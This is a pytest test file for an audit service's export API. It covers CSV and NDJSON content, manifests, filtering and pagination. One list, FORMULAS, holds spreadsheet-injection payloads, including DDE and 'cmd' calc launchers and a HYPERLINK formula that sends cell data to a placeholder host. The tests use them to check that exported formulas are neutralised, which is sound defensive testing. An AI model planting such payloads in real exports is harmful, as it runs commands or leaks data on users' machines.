"""Exports over HTTP: what the files contain, their manifests, and who may read them."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import uuid
from typing import Any

import pytest

from audit.history.export_query import COLUMNS
from tests.api import API, FULL_TASK, metric
from tests.conftest import Client, ago, task
from tests.lists import record
from tests.waiting import until

EXPORT = f"{API}/export"
PLAIN = {"Accept-Encoding": "identity"}


async def exported(client: Client, query: str = "", **headers: str) -> tuple[bytes, dict[str, str]]:
    response = await client.get(f"{EXPORT}?{query}", headers={**PLAIN, **headers})
    body = await response.read()
    assert response.status == 200, body
    return body, dict(response.headers)


async def manifest_of(client: Client, headers: dict[str, str]) -> dict[str, Any]:
    response = await client.get(f"{API}/exports/{headers['X-Export-ID']}")
    assert response.status == 200, await response.text()
    manifest: dict[str, Any] = await response.json()
    return manifest


def ids_of(body: bytes) -> list[str]:
    return [json.loads(line)["task_id"] for line in body.splitlines()]


def rows_of(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


@pytest.fixture
async def tasks(client: Client) -> list[str]:
    """The ids of tasks over half a year, the newest first."""
    given = [
        task(
            created_at=ago(days=6 * n + 1),
            status="failed" if n % 3 == 0 else "completed",
            services_touched=["payments", f"s{n % 2}"],
            created_by="ada" if n % 2 else None,
        )
        for n in range(30)
    ]
    await record(client, *given)
    return [one["task_id"] for one in given]


async def test_lines_are_whole_tasks_in_the_order_of_lists(
    client: Client, tasks: list[str]
) -> None:
    body, headers = await exported(client)

    assert ids_of(body) == tasks
    assert headers["Content-Type"] == "application/x-ndjson"
    assert headers["X-Total"] == "30"
    assert headers["Cache-Control"] == "no-store"
    assert headers["Content-Disposition"].endswith('.ndjson"')
    for line in body.splitlines():
        one = json.loads(line)
        alone = await client.get(f"{API}/tasks/{one['task_id']}")
        assert await alone.read() == line


@pytest.mark.parametrize(
    "filters",
    [
        "status=failed", "status=failed&status=pending", "service=s1&service=payments",
        "created_by=ada", "last=40d", "days=40", "intent=deploy_service&intent=x",
        'outcome={"action_type":"deploy_service"}', "since=2020-01-01T00:00:00Z",
        "status=failed&created_by=ada", "service=nobody", "until=2020-01-01T00:00:00Z",
    ],
)  # fmt: skip
async def test_an_export_has_the_tasks_of_the_list(
    client: Client, tasks: list[str], filters: str
) -> None:
    listed = await client.get(f"{API}/query?{filters}&limit=1000")
    page = await listed.json()

    for form in ("ndjson", "csv"):
        body, headers = await exported(client, f"{filters}&format={form}")
        manifest = await manifest_of(client, headers)

        ids = ids_of(body) if form == "ndjson" else [row["task_id"] for row in rows_of(body)]
        assert ids == [one["task_id"] for one in page["tasks"]]
        assert page["total"] == len(ids) == int(headers["X-Total"]) == manifest["tasks"]


async def test_the_manifest_describes_the_file(client: Client, tasks: list[str]) -> None:
    body, headers = await exported(client, "status=failed&service=payments&last=90d")

    manifest = await manifest_of(client, headers)
    ids = ids_of(body)
    assert len(ids) > 1
    assert manifest.pop("taken_at") < manifest.pop("ended_at")
    since = manifest["filter"].pop("since")
    assert since < ago(days=89).isoformat()
    assert manifest.pop("version")
    assert manifest == {
        "export_id": headers["X-Export-ID"],
        "filter": {"status": ["failed"], "service": ["payments"]},
        "format": "ndjson",
        "columns": None,
        "raw": None,
        "after": None,
        "snapshot": headers["X-Snapshot"],
        "tasks": len(ids),
        "bytes": len(body),
        "sha256": hashlib.sha256(body).hexdigest(),
        "first_task": ids[0],
        "last_task": ids[-1],
        "neutralised": 0,
        "complete": True,
        "by": None,
    }
    assert metric(client, 'task_audit_exports_total{result="complete"}') == 1
    assert metric(client, "task_audit_exported_tasks_total") == len(ids)
    await until(lambda: metric(client, "task_audit_exports_running") == 0)


@pytest.mark.parametrize("form", ["ndjson", "csv"])
async def test_an_export_of_no_tasks(client: Client, form: str) -> None:
    body, headers = await exported(client, f"format={form}")

    assert body == (",".join(COLUMNS).encode() + b"\n" if form == "csv" else b"")
    manifest = await manifest_of(client, headers)
    assert (manifest["tasks"], manifest["bytes"], manifest["complete"]) == (0, len(body), True)
    assert (manifest["first_task"], manifest["last_task"]) == (None, None)


async def test_every_character_goes_through(client: Client) -> None:
    """Control characters, quotes and backslashes are no line ends and no quotes of COPY."""
    text = "".join(map(chr, [*range(1, 0x20), 0x22, 0x5C, 0x7F, 0x2028])) + "\\. \r\n"
    one = FULL_TASK | {
        "request_text": text, "error_message": text, "outcome": {text: [text]},
        "services_touched": [text], "created_by": "\\.",
    }  # fmt: skip
    await record(client, one, task())

    body, _ = await exported(client)
    rows = rows_of((await exported(client, "format=csv&raw=true"))[0])

    (line,) = [each for each in body.split(b"\n") if one["task_id"].encode() in each]
    assert json.loads(line)["request_text"] == text
    (row,) = [each for each in rows if each["task_id"] == one["task_id"]]
    assert row["request_text"] == row["error_message"] == text
    assert json.loads(row["services_touched"]) == [text]
    assert json.loads(row["outcome"]) == {text: [text]}
    assert row["created_by"] == "\\."


async def test_csv_shows_values_as_the_header_says(client: Client) -> None:
    full = FULL_TASK | {"services_touched": ["a b", "c"], "status": "completed"}
    plain = task(
        created_at="2025-02-01T00:00:00Z", completed_at="2025-02-01T01:00:00.5Z",
        error_message="", services_touched=[],
    )  # fmt: skip
    odd = task(created_at="2025-01-01T00:00:00Z", services_touched=["a;b", 'c"d'])
    await record(client, full, plain, odd)

    body, headers = await exported(client, "format=csv")

    assert headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert body.decode().splitlines()[0] == ",".join(COLUMNS)
    first, second, third = rows_of(body)
    assert first["created_at_utc"] == "2025-02-28T23:59:59.000001Z"
    assert first["services_touched"] == "a b;c"
    assert first["project_id"] == full["project_id"]
    assert first["intent"] == "rotate_secret"
    assert first["request_text"] == full["request_text"]
    assert json.loads(first["suggestions"]) == full["suggestions"]
    assert second["duration_seconds"] == "3600.5"
    assert json.loads(third["services_touched"]) == ["a;b", 'c"d']
    # null is an empty cell, and an empty text is quoted.
    cells = body.decode().splitlines()[-2].split(",")
    assert cells[COLUMNS.index("project_id")] == ""
    assert cells[COLUMNS.index("error_message")] == '""'
    assert cells[COLUMNS.index("services_touched")] == '""'


#: Texts that spreadsheets run, of OWASP's page on CSV injection and of others.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1)', "=", "-",
    '=1+1";=1+1', "=1+1,=1+1", "@", '=DDE("cmd";"/C calc";"!A0")',
]  # fmt: skip
HARMLESS = ["'=1+1", ' "=1+1', '"=1+1', "a=1+1", "1-1", "", "\x01=1", "(=1)", ";=1", "é"]


async def test_formulas_are_marked_as_text(client: Client) -> None:
    cells = [*FORMULAS, *HARMLESS]
    given = [
        task(
            created_at=ago(hours=n + 1), request_text=text or "x", error_message=text,
            created_by=text or None, outcome={"action_type": text},
            services_touched=[text] if text else [],
        )
        for n, text in enumerate(cells)
    ]  # fmt: skip
    await record(client, *given)

    body, headers = await exported(client, "format=csv")
    raw, raw_headers = await exported(client, "format=csv&raw=true")

    names = ("error_message", "request_text", "created_by", "intent")
    for text, row, raw_row in zip(cells, rows_of(body), rows_of(raw), strict=True):
        for name in names:
            mark = "'" if text in FORMULAS else ""
            assert row[name] == mark + (text or {"request_text": "x"}.get(name, ""))
            assert raw_row[name] == row[name].removeprefix(mark)
        first = row["services_touched"][:1]
        assert first == ("" if not text else "'" if text in FORMULAS and first == "'" else first)
    for row in rows_of(body):
        assert not row["services_touched"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    marked = sum(
        row[name] != raw_row[name]
        for row, raw_row in zip(rows_of(body), rows_of(raw), strict=True)
        for name in COLUMNS
    )
    assert (await manifest_of(client, headers))["neutralised"] == marked > 70
    assert (await manifest_of(client, raw_headers))["neutralised"] == 0
    lines, _ = await exported(client)
    assert [json.loads(line)["error_message"] for line in lines.splitlines()] == cells


async def test_texts_stay_whole_where_semicolons_and_tabs_separate_cells(client: Client) -> None:
    """LibreOffice splits lines at commas, semicolons and tabs if its user accepts the defaults."""
    text = "a;=1+1\t=1+1"
    await record(
        client,
        task(request_text=text, error_message=text, created_by=text, outcome={"action_type": text}),
        task(services_touched=["a", "=1+1"]),
    )

    for query in ("format=csv", "format=csv&raw=true"):
        body, _ = await exported(client, query)

        assert text in [row["request_text"] for row in rows_of(body)]
        outside_quotes = re.sub(rb'"[^"]*"', b"", body)
        assert b";" not in outside_quotes
        assert b"\t" not in outside_quotes


async def test_numbers_are_never_marked(client: Client) -> None:
    await record(
        client,
        task(created_at="2025-02-01T01:00:00Z", completed_at="2025-02-01T00:00:00Z"),
    )

    body, headers = await exported(client, "format=csv")

    (row,) = rows_of(body)
    assert row["duration_seconds"] == "-3600"
    assert (await manifest_of(client, headers))["neutralised"] == 0


async def test_columns_are_chosen_in_their_order(client: Client, tasks: list[str]) -> None:
    body, headers = await exported(client, "format=csv&columns=status,task_id")

    assert body.startswith(b"status,task_id\n")
    assert [row["task_id"] for row in rows_of(body)] == tasks
    manifest = await manifest_of(client, headers)
    assert manifest["columns"] == ["status", "task_id"]
    assert (manifest["first_task"], manifest["last_task"]) == (tasks[0], tasks[-1])
    _, headers = await exported(client, "format=csv&columns=request_text")
    assert (await manifest_of(client, headers))["first_task"] is None


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("format=xml", "format"), ("columns=task_id", "columns"), ("raw=true", "raw"),
        ("format=csv&raw=yes", "raw"), ("format=csv&columns=nothing", "columns"),
        ("format=csv&columns=", "columns"), ("format=csv&columns=status,status", "columns"),
        ("after=x", "after"), (f"after={uuid.UUID(int=7)}", "after"), ("limit=1", "limit"),
        ("cursor=x", "cursor"), ("status=lost", "status"), ("last=7d&days=7", "last"),
    ],
)  # fmt: skip
async def test_wrong_parameters_are_named(client: Client, query: str, field: str) -> None:
    response = await client.get(f"{EXPORT}?{query}")

    problem = await response.json()
    assert (response.status, problem["status"]) == (422, 422)
    assert field in problem["detail"] or field in problem["errors"][0]["field"]


@pytest.mark.parametrize("form", ["ndjson", "csv"])
async def test_an_export_continues_after_a_task(
    client: Client, tasks: list[str], form: str
) -> None:
    whole, _ = await exported(client, f"format={form}")
    for n in (0, 11, 28, 29):
        rest, headers = await exported(client, f"format={form}&after={tasks[n]}")

        head = 1 if form == "csv" else 0
        assert whole.splitlines()[n + 1 + head :] == rest.splitlines()[head:]
        assert int(headers["X-Total"]) == 29 - n
        manifest = await manifest_of(client, headers)
        assert (manifest["after"], manifest["tasks"]) == (tasks[n], 29 - n)


async def test_tasks_of_the_same_time_continue_by_their_ids(client: Client) -> None:
    at = ago(days=1)
    ids = sorted((str(uuid.uuid4()) for _ in range(9)), reverse=True)
    await record(client, *(task(task_id=each, created_at=at) for each in ids))

    assert ids == ids_of((await exported(client))[0])
    assert ids[4:] == ids_of((await exported(client, f"after={ids[3]}"))[0])


async def test_gzip_is_used_if_it_is_accepted(client: Client, tasks: list[str]) -> None:
    plain, headers = await exported(client)
    assert "Content-Encoding" not in headers
    async with client.session.get(
        client.make_url(EXPORT), headers={"Accept-Encoding": "gzip"}, auto_decompress=False
    ) as response:
        assert response.headers["Content-Encoding"] == "gzip"
        assert gzip.decompress(await response.read()) == plain
        manifest = await manifest_of(client, dict(response.headers))
    assert manifest["bytes"] == len(plain)


async def test_head_only_counts(client: Client, tasks: list[str]) -> None:
    response = await client.head(f"{EXPORT}?status=failed", headers=PLAIN)

    assert response.status == 200
    assert response.headers["X-Total"] == "10"
    assert response.headers["Content-Type"] == "application/x-ndjson"
    assert "X-Export-ID" not in response.headers
    assert (await (await client.get(f"{API}/exports")).json())["exports"] == []


async def test_exports_are_listed_newest_first(client: Client, tasks: list[str]) -> None:
    ids = [(await exported(client, f"status={each}"))[1]["X-Export-ID"] for each in
           ("failed", "pending", "approved", "rejected", "completed")]  # fmt: skip
    found: list[str] = []
    cursor = ""
    while True:
        response = await client.get(f"{API}/exports?limit=2{cursor}")
        page = await response.json()
        found += [each["export_id"] for each in page["exports"]]
        if page["next_cursor"] is None:
            break
        cursor = f"&cursor={page['next_cursor']}"

    assert found == ids[::-1]
    assert (await client.get(f"{API}/exports?cursor=x")).status == 422
    assert (await client.get(f"{API}/exports/{uuid.uuid4()}")).status == 404
    assert (await client.get(f"{API}/exports/x")).status == 422
